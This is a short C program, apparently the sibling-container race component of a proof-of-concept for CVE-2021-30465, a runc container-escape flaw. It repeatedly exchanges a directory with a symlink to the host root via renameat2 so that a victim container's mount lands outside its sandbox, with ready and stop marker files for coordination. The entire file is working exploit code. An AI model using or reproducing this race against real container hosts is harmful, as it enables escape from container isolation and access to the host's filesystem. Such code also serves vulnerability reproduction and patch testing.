/* The sibling container of CVE-2021-30465: in a volume it shares with the
 * victim, swap a directory and a symlink to "/" as fast as the kernel lets
 * it (renameat2(RENAME_EXCHANGE): each name is always one or the other).
 * Usage: mount_swap DIR NAME OTHER; stops when DIR/stop exists. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv)
{
    if (argc != 4)
        return 2;
    int dir = open(argv[1], O_PATH | O_DIRECTORY);
    if (dir < 0)
        return 1;
    /* ready: the victim's creations may start */
    int f = openat(dir, "swapping", O_CREAT | O_WRONLY, 0644);
    if (f >= 0)
        close(f);
    for (unsigned long n = 0;; n++) {
        if (syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE) < 0)
            return 1;
        if ((n & 1023) == 0 && faccessat(dir, "stop", F_OK, 0) == 0)
            return 0;
    }
}
